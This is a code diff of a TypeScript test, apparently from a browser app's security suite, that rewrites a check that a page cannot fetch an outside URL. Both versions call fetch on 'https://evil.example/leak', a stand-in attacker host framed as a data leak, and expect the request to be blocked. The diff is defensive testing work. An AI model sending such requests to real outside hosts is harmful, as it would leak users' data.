@@ -212,13 +212,8 @@ describe('where a page may go', () => {
 
   test('not by a request past its policy', async () => {
     await showPage('')
-    const reached = await app.page.evaluate(() =>
-      fetch('https://evil.example/leak').then(
-        answer => answer.text(),
-        () => 'cut off',
-      ),
-    )
-    expect(reached).toBe('cut off')
+    const leak = (): Promise<string> => fetch('https://evil.example/leak').then(answer => answer.text())
+    await expect(app.page.evaluate(leak)).rejects.toThrow('Failed to fetch')
   })
 
   test('not into a window of its own', async () => {
